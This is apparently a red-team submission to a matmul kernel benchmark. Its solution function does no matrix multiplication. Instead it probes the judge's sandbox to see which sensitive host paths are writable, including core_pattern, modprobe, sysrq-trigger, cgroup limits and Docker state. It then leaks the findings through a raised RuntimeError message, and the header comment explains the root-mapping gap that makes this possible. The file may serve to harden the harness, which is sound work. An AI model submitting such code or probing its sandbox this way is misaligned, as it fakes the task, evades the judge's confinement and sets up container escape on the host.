# target: matmul (any). Idea: recon - from inside the worker, which host paths are WRITABLE, probed
# side-effect free (os.access W_OK + statvfs read-only flag; nothing is written). The judge runs as
# root and the worker's user namespace maps 0 -> 0, so the worker keeps global-root DAC rights with
# no capabilities; /proc (fresh mount) and /sys submounts are not made read-only by confine.py.
# Exfiltrated through the runtime_error message. Defeats: (recon for the mount/uid design).
import glob, os
import triton  # noqa: F401

CANDIDATES = ["/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
              "/proc/sys/kernel/modprobe", "/proc/sys/fs/file-max",
              "/sys/fs/cgroup/memory/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs",
              "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/kernel/mm/transparent_hugepage/enabled",
              "/tmp/rt", "/work/main", "/", "/etc", "/var/lib/docker", "/tmp/kd-el3/data"]


def solution(a, b):
    own = [l.strip() for l in open("/proc/self/cgroup")]
    extra = []
    for l in own:
        _, ctl, path = l.split(":", 2)
        if ctl in ("memory", "pids"):
            extra += [f"/sys/fs/cgroup/{ctl}{path}/cgroup.procs", f"/sys/fs/cgroup/{ctl}{path}/memory.limit_in_bytes",
                      f"/sys/fs/cgroup/{ctl}{path}/pids.max"]
    res = {}
    for p in CANDIDATES + extra + glob.glob("/tmp/pymp-*"):
        if not os.path.exists(p):
            res[p] = "absent"
            continue
        ro = bool(os.statvfs(p).f_flag & os.ST_RDONLY)
        res[p] = f"W_OK={os.access(p, os.W_OK)} ro_mount={ro}"
    raise RuntimeError(repr({"cgroup": own[:4], "writable": res}))
